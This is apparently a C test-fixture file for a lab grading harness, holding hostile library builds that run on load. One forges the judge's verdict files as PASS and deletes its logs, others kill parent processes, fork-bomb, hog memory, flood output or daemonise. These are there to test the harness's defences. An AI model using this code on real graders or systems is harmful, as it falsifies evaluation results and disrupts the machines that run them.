/* The project's own hostile implementations: what a student library could
 * try against the lab once it is loaded into an actor.  One source, one
 * attack per build (-DATTACK_...); each also behaves exactly like the C
 * library, except FORGE, whose read() is wrong on purpose (EIO at EOF), so
 * that its verdicts must equal those of the honest read_eof_is_eio mutant.
 *
 * The attacks run when the library is loaded (a constructor), in every
 * process that loads it. */
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef ATTACK_FORGE
/* Where the judge's evidence goes, found any way a library could. */
static void results_dir(char *dir, size_t n)
{
	dir[0] = '\0';
	const char *d = getenv("PIPELAB_RESULTS_DIR");
	if (d) {
		snprintf(dir, n, "%s", d);
		return;
	}
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/environ", getppid());
	FILE *f = fopen(path, "re");
	char var[4096];
	size_t len = f ? fread(var, 1, sizeof var - 1, f) : 0;
	if (f)
		fclose(f);
	var[len] = '\0';
	for (size_t i = 0; i < len; i += strlen(var + i) + 1)
		if (!strncmp(var + i, "PIPELAB_RESULTS_DIR=", 20))
			snprintf(dir, n, "%s", var + i + 20);
	if (!dir[0] && getenv("HOSTILE_RESULTS_GUESS"))
		snprintf(dir, n, "%s", getenv("HOSTILE_RESULTS_GUESS"));
}

static void put(const char *dir, const char *name, const char *text)
{
	char path[1200];
	snprintf(path, sizeof path, "%s/%s", dir, name);
	FILE *f = fopen(path, "we");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static void attack(void)
{
	char dir[1024];
	results_dir(dir, sizeof dir);
	if (!dir[0])
		return;
	const char *pass = "{\"schema\":1,\"verdict\":\"PASS\",\"case\":\"forged\",\"reason\":\"\"}";
	DIR *d = opendir(dir);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		char path[1400];
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		if (strstr(e->d_name, ".json") && strcmp(e->d_name, "run.json"))
			put(dir, e->d_name, pass); /* rewrite every record, its own too */
		else if (strstr(e->d_name, ".log"))
			unlink(path);
	}
	if (d)
		closedir(d);
	put(dir, "results.json", "{\"cases\":[],\"totals\":{\"PASS\":85}}");
	put(dir, "run.json", "{\"id\":\"../../forged\"}");
	put(dir, "injected_case.json", pass);
}

/* The honest part is broken: EOF reads as EIO (like read_eof_is_eio). */
ssize_t read(int fd, void *buf, size_t n)
{
	ssize_t (*real)(int, void *, size_t);
	*(void **)&real = dlsym(RTLD_NEXT, "read");
	struct stat st;
	ssize_t r = real(fd, buf, n);
	if (r == 0 && n > 0 && fd > 2 && fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode)) {
		errno = EIO;
		return -1;
	}
	return r;
}
#endif

#ifdef ATTACK_KILL_PARENT
/* Kill every ancestor it can name: the actor's parent (the judge), the
 * judge's parent (the launcher), and above. */
static void attack(void)
{
	pid_t pid = getppid();
	for (int depth = 0; depth < 3 && pid > 1; depth++) {
		kill(pid, SIGKILL);
		char path[64], line[256];
		snprintf(path, sizeof path, "/proc/%d/status", pid);
		FILE *f = fopen(path, "re");
		pid_t next = 0;
		while (f && fgets(line, sizeof line, f))
			if (sscanf(line, "PPid: %d", &next) == 1)
				break;
		if (f)
			fclose(f);
		pid = next;
	}
}
#endif

/* A forked helper that keeps no pipe end: otherwise holding them would
 * change the behaviour under test (EOF, EPIPE), not attack the lab. */
__attribute__((unused)) static void drop_descriptors(void)
{
	for (int fd = 3; fd < 1024; fd++)
		close(fd);
}

#ifdef ATTACK_FORK_LOOP
/* Fork until refused (bounded at 2000): each child waits forever. */
static void attack(void)
{
	for (int i = 0; i < 2000; i++) {
		pid_t p = fork();
		if (p < 0)
			break;
		if (p == 0) {
			drop_descriptors();
			for (;;)
				pause();
		}
	}
}
#endif

#ifdef ATTACK_MEMORY_HOG
/* Take memory until refused (bounded at 16 GiB), touching a page of each
 * block (touching all of it would only make the library slow). */
static void *volatile hog_sink;

static void attack(void)
{
	for (int i = 0; i < 16 * 16; i++) {
		char *p = malloc(64 << 20);
		if (!p)
			break;
		memset(p, 1, 4096);
		hog_sink = p; /* each block is kept: the previous one stays allocated, unreachable */
	}
}
#endif

#ifdef ATTACK_OUTPUT_FLOOD
/* 64 MiB on standard output. */
static void attack(void)
{
	static char block[1 << 16];
	memset(block, 'x', sizeof block);
	ssize_t (*real)(int, const void *, size_t);
	*(void **)&real = dlsym(RTLD_NEXT, "write");
	for (int i = 0; i < 1024; i++)
		if (real(1, block, sizeof block) < 0)
			break;
}
#endif

#ifdef ATTACK_DAEMON
#include <sys/wait.h>
/* Leave the process group and the session, and live on (bounded: 1 h).
 * The loader waits for the middle process, so no pipe end is held by a
 * helper when the library's caller goes on. */
static void attack(void)
{
	pid_t p = fork();
	if (p > 0) {
		waitpid(p, NULL, 0);
		return;
	}
	if (p < 0)
		return;
	drop_descriptors();
	setsid();
	if (fork() != 0)
		_exit(0);
	sleep(3600);
	_exit(0);
}
#endif

__attribute__((constructor)) static void loaded(void) { attack(); }
